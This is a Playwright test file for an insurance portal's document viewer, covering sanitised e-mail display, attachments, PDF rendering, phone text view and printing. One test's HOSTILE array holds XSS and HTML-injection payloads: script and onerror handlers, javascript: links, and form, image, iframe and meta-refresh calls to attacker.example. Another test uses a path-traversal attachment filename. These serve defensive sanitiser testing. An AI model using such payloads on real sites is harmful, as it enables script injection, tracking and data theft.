import type { Page } from '@playwright/test';
import { expect, test } from '../support/fixtures.ts';
import { watchLayoutShifts } from '../support/layout-shifts.ts';
import { openSession } from '../support/open-session.ts';
import { PoliciesPage } from '../support/pages/policies-page.ts';
import { plainPdf } from '../support/plain-pdf.ts';
import { forcedColourViolations } from '../support/screen-checks.ts';
import { htmlPart, messageOf, serveContent } from '../support/served-document.ts';
import { taggedPdf } from '../support/tagged-pdf.ts';

type OpenDocument = (name: RegExp, content: string) => Promise<void>;

const viewer = test.extend<{ openDocument: OpenDocument }>({
  openDocument: ({ page, personLike }, use) =>
    use(async (name, content) => {
      const person = await personLike('Four policies');
      await openSession(page, person);
      await PoliciesPage.verifyOnPage(page);
      await page.goto(`/documents/${person.policies[0]}`);
      const path = await page.getByRole('link', { name }).first().getAttribute('href');
      await serveContent(page, content);
      await page.goto(path ?? '');
    }),
});

const LETTER = /^Policy schedule/;
const EMAIL = /^We have updated your address/;

const frameOf = (page: Page) => page.frameLocator('.email-frame').locator('body');

const withoutPdfViewer = (page: Page) =>
  page.addInitScript(() =>
    Object.defineProperty(Navigator.prototype, 'pdfViewerEnabled', { get: () => false }),
  );

const HOSTILE = [
  '<p>Visible text MARK-OK</p><script>top.__pwned=1</script><img src=x onerror="top.__pwned=2">',
  '<p style="position:fixed;inset:0;background:#fff">MARK-OK</p><style>*{display:none!important}</style>',
  '<img src="https://attacker.example/open.gif"><p background="//attacker.example/b">MARK-OK</p>',
  '<iframe src="https://attacker.example/"></iframe><object data="https://attacker.example/o"></object>MARK-OK',
  '<a href="javascript:top.__pwned=3">MARK-OK</a><a href="https://attacker.example/" target="_top">in</a>',
  '<form action="https://attacker.example/"><input name=q value=1><button>Send</button></form>MARK-OK',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/"><base href="https://attacker.example/">MARK-OK',
  '<svg><style><img src=x onerror="top.__pwned=4"></style></svg><math><mtext><p>MARK-OK</p></mtext></math>',
];

viewer(
  '[DOC-62] nothing of a hostile e-mail runs, is fetched or leads away, and its text stays',
  async ({ page, context, openDocument }) => {
    const outside: string[] = [];
    context.on('request', (request) => {
      if (request.url().includes('attacker.example')) outside.push(request.url());
    });
    await openDocument(EMAIL, messageOf(htmlPart(HOSTILE.join(''))));
    const frame = frameOf(page);
    await expect(frame).toContainText('MARK-OK');
    expect((await frame.innerText()).split('MARK-OK').length - 1).toBe(HOSTILE.length);
    await expect(page.locator('main')).toContainText('We have not loaded them');
    await expect(
      frame.locator('form, input, script, style, iframe, object, svg, [style], [onerror]'),
    ).toHaveCount(0);
    await expect(frame.getByRole('link')).toHaveCount(1);
    const link = frame.getByRole('link', { name: 'in' });
    await expect(link).toHaveAttribute('target', '_blank');
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(page.locator('.email-frame')).toHaveAttribute(
      'sandbox',
      'allow-popups allow-popups-to-escape-sandbox',
    );
    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
    expect(outside).toEqual([]);
    await expect(page.locator('main')).not.toContainText(/PREAMBLE-BAD|EPILOGUE-BAD/);
  },
);

viewer(
  '[DOC-62] a message keeps its paragraphs, tables and own pictures; a link that shows another address says so',
  async ({ page, openDocument, expectAccessible }) => {
    const png =
      'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC';
    const html =
      '<img src="cid:logo@a" alt="Example Life"><h1>Your policy</h1><table><tr><th>Now</th><td>$41.87</td></tr></table>' +
      '<a href="https://evil.example/">www.example.com</a> <a href="mailto:a@example.com?bcc=b@example.com">Write</a>' +
      '<div style="display:none">Hidden line</div>';
    const picture = ['Content-Type: image/png', 'Content-ID: <logo@a>', 'Content-Transfer-Encoding: base64'];
    await openDocument(EMAIL, messageOf(htmlPart(html), [picture, png]));
    const frame = frameOf(page);
    await expect(frame.getByRole('heading', { name: 'Your policy' })).toBeVisible();
    await expect(frame.getByRole('cell', { name: '$41.87' })).toBeVisible();
    const width = await frame
      .getByAltText('Example Life')
      .evaluate((image: HTMLImageElement) => image.naturalWidth);
    expect(width).toBe(10);
    await expect(frame).toContainText('www.example.com (this link leads to evil.example)');
    await expect(frame.getByRole('link', { name: 'Write' })).toHaveAttribute('href', 'mailto:a@example.com');
    await expect(frame).not.toContainText('Hidden line');
    await expect(page.locator('main')).not.toContainText('We have not loaded them');
    await expectAccessible();
  },
);

viewer(
  '[DOC-85] the frame of a short e-mail is as high as its text, and its attachment stands above it',
  { tag: '@desktop' },
  async ({ page, openDocument }) => {
    const html =
      '<p>Dear Margaret,</p><p>We have <b>updated your address</b>. Your new policy schedule is attached.</p><p>real</p>';
    const schedule = [
      'Content-Type: application/pdf',
      'Content-Disposition: attachment; filename="Schedule.pdf"',
    ];
    await openDocument(EMAIL, messageOf(htmlPart(html), [schedule, taggedPdf()]));
    const frame = frameOf(page);
    await expect(frame).toContainText('Dear Margaret');
    const hidden = await frame.evaluate(
      ({ ownerDocument: { documentElement: root } }) => root.scrollHeight - root.clientHeight,
    );
    expect(hidden).toBe(0);
    // Both at the same moment: what is overdue may arrive above them.
    const [frameBox, attachmentsBox] = await page.evaluate(() =>
      ['.email-frame', 'section[aria-labelledby="attachments"]'].map((part) =>
        document.querySelector(part)?.getBoundingClientRect().toJSON(),
      ),
    );
    expect(frameBox.height).toBeLessThan(320);
    expect(attachmentsBox.y).toBeLessThan(frameBox.y);
  },
);

viewer(
  '[DOC-63] [DOC-64] [DOC-66] attachments open in place or are saved, and all is gone at the end of the session',
  async ({ page, openDocument }) => {
    const inner = 'Subject: The first message\r\n\r\nInner text';
    const attachment = (type: string, name: string) => [
      `Content-Type: ${type}`,
      `Content-Disposition: attachment; filename="${name}"`,
    ];
    await openDocument(
      EMAIL,
      messageOf(
        [['Content-Type: text/plain'], 'Kia ora'],
        [attachment('application/pdf', '../../Schedule.pdf'), taggedPdf()],
        [attachment('text/html', 'page.html'), '<script>top.__pwned=1</script>'],
        [['Content-Type: message/rfc822'], inner],
      ),
    );
    await expect(page.getByText('3 attachments')).toBeVisible();
    await page.getByRole('button', { name: 'Open Schedule.pdf' }).press('Enter');
    await expect(page.getByRole('heading', { level: 1, name: 'Schedule.pdf' })).toBeFocused();
    await page.getByRole('button', { name: 'Back to the message' }).press('Enter');
    await page.getByRole('button', { name: 'Open Attached message.eml' }).press('Enter');
    await expect(page.getByText('Inner text')).toBeVisible();
    await page.getByRole('button', { name: 'Back to the message' }).press('Enter');
    const [saved] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('link', { name: 'Download page.html' }).click(),
    ]);
    expect(saved.suggestedFilename()).toBe('page.html');
    // The window of a document has no link to log out: another one does it for all.
    const other = await page.context().newPage();
    await other.goto('/logout');
    await expect(page.getByText('Kia ora')).toHaveCount(0);
    expect(page.workers()).toEqual([]);
    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
  },
);

viewer(
  '[DOC-70] [DOC-71] [DOC-73] without a viewer of the browser ours draws the PDF, and its text has the order of its tags',
  { tag: '@desktop' },
  async ({ page, openDocument, expectAccessible }, { project }) => {
    await withoutPdfViewer(page);
    await openDocument(LETTER, taggedPdf());
    const shown = page.getByRole('region', { name: 'Page 1 of 1' });
    await expect(shown.getByRole('heading', { name: 'Renewal' })).toHaveAttribute('aria-level', '2');
    if (project.name === 'phone') await page.getByRole('button', { name: 'Show pages' }).click();
    await expect(shown.locator('.pdf-tag').first()).toHaveText(/Renewal\s*Your cover goes on\./);
    await expect(shown.getByRole('link')).toHaveAttribute('href', 'https://www.example.com/help');
    const isDrawn = () =>
      shown.locator('canvas').evaluate((canvas: HTMLCanvasElement) => {
        const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
        return pixels.some((value) => value > 0 && value < 255);
      });
    await expect.poll(isDrawn).toBe(true);
    const widthOf = async () => (await shown.boundingBox())?.width ?? 0;
    const before = await widthOf();
    await page.getByRole('button', { name: 'Larger' }).press('Enter');
    await expect.poll(widthOf).toBeCloseTo(before * 1.25, -1);
    await expect(page.getByText('125 %')).toBeVisible();
    await expect(page.getByRole('textbox', { name: 'Page' })).toHaveCount(0);
    await expectAccessible();
  },
);

test('[DOC-86] [DOC-90] [DOC-91] [NAV-15] [PAY-55] on a phone a letter opens as its text: it flows, in the size that was chosen', async ({
  page,
  personLike,
  expectAccessible,
}) => {
  const person = await personLike('Four policies');
  await openSession(page, person);
  await PoliciesPage.verifyOnPage(page);
  await page.goto(`/documents/${person.policies[0]}`);
  const path = await page.getByRole('link', { name: LETTER }).first().getAttribute('href');
  const shifted = await watchLayoutShifts(page);
  await page.goto(path ?? '');
  const shown = page.getByRole('region', { name: 'Page 1 of' });
  const paragraph = shown.getByRole('paragraph').first();
  await expect(paragraph).toBeVisible();
  expect((await paragraph.boundingBox())?.y).toBeLessThan(400);
  await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => setTimeout(drawn))));
  expect(await shifted()).toBeLessThan(0.02);
  await expect(page.getByRole('navigation', { name: 'Main' })).toHaveCount(0);
  const back = await page.getByRole('link', { name: 'Back to all documents' }).boundingBox();
  expect(back?.height).toBeGreaterThanOrEqual(44);
  await expect(shown.locator('canvas')).toBeHidden();
  const sizeOf = () =>
    paragraph
      .locator('[role=presentation]')
      .first()
      .evaluate((text) => Number.parseFloat(getComputedStyle(text).fontSize));
  expect(await sizeOf()).toBeGreaterThanOrEqual(18);
  await expectAccessible();
  await page.evaluate(() => {
    document.documentElement.dataset.size = 'largest';
  });
  expect(await sizeOf()).toBeGreaterThanOrEqual(27);
  const width = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  expect(width).toBeLessThanOrEqual(0);
  // The window of a document is the document's alone.
  await expect(page.getByRole('region', { name: 'Overdue premiums' })).toHaveCount(0);
  await page.evaluate(() => {
    delete document.documentElement.dataset.size;
  });
  await page.getByRole('button', { name: 'Show pages' }).click();
  await expect(shown.locator('canvas')).toBeVisible();
  await page.getByRole('button', { name: 'Text only' }).click();
  await expect(shown.locator('canvas')).toBeHidden();
});

viewer('[DOC-92] Print prints every page of a letter and nothing else', async ({ page, openDocument }) => {
  await page.addInitScript(() => {
    window.print = () => void document.documentElement.toggleAttribute('data-printed', true);
  });
  await openDocument(LETTER, plainPdf(3));
  await page.getByRole('button', { name: 'Print' }).click();
  await expect(page.locator('html[data-printed]')).toBeAttached();
  await page.emulateMedia({ media: 'print' });
  const sheets = page.locator('body > div > img');
  await expect(sheets).toHaveCount(3);
  for (const sheet of await sheets.all()) await expect(sheet).toBeVisible();
  await expect(page.locator('#root')).toBeHidden();
  const paper = (await page.pdf({ preferCSSPageSize: true, format: 'A4' })).toString('latin1');
  expect(paper.match(/\/Type\s*\/Page\b/g)).toHaveLength(3);
  await page.emulateMedia({ media: 'screen' });
  await expect(page.locator('#root')).toBeVisible();
  await page.evaluate(() => dispatchEvent(new Event('afterprint')));
  await expect(sheets).toHaveCount(0);
});

viewer(
  '[DOC-86] [DOC-90] in its text alone a page that is a picture says so, and links to the web stay',
  async ({ page, openDocument }) => {
    await withoutPdfViewer(page);
    await openDocument(LETTER, taggedPdf('0 0 100 100 re f'));
    const shown = page.getByRole('region', { name: 'Page 1 of 1' });
    await expect(shown.getByRole('link')).toBeAttached();
    await expect(shown.locator('canvas')).toBeVisible();
    await page.getByRole('button', { name: 'Text only' }).click();
    await expect(shown.getByText('Page 1 is a picture.')).toBeVisible();
    await expect(shown.getByText('https://www.example.com/help')).toBeInViewport();
    expect(await forcedColourViolations(page)).toEqual([]);
  },
);

viewer(
  '[DOC-72] a PDF that ours cannot draw says so, and the window stays',
  async ({ page, openDocument }) => {
    await withoutPdfViewer(page);
    await openDocument(LETTER, '%PDF-1.7\nnothing else\n%%EOF');
    await expect(page.getByRole('alert').getByText('It may be damaged')).toBeVisible();
    await expect(page.getByRole('link', { name: 'Download' })).toHaveAttribute(
      'download',
      'Policy schedule.pdf',
    );
  },
);

viewer(
  '[DOC-37] [DOC-60] where neither has a viewer, the window says so and downloads the PDF',
  async ({ page, openDocument }) => {
    await withoutPdfViewer(page);
    await page.route('**/assets/pdf-view-*', (route) => route.abort());
    const download = page.waitForEvent('download');
    await openDocument(LETTER, taggedPdf());
    await expect(page.getByText('This browser cannot show PDF documents.')).toBeVisible();
    expect((await download).suggestedFilename()).toBe('Policy schedule.pdf');
  },
);
